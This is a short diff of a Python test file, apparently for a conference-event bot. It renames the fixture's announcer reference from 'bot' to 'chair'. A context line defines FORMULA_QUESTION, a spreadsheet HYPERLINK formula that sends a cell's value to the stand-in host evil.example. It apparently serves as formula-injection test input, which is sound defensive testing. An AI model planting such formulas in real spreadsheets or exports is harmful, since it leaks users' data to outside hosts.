@@ -18,7 +18,7 @@ FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?"&A1,"Is this safe?")'
 async def event(tmp_path: Path) -> AsyncIterator[Event]:
     async with running_event(tmp_path, MovableClock(TALK_1_LIVE)) as running:
         await running.emu.wait_for_message(running.announcements, lambda m: "Invited Talk 1" in m.content)
-        await running.emu.wait_until(lambda: running.bot.announcer is not None and not running.bot.announcer.busy())
+        await running.emu.wait_until(lambda: running.chair.announcer is not None and not running.chair.announcer.busy())
         yield running
 
 
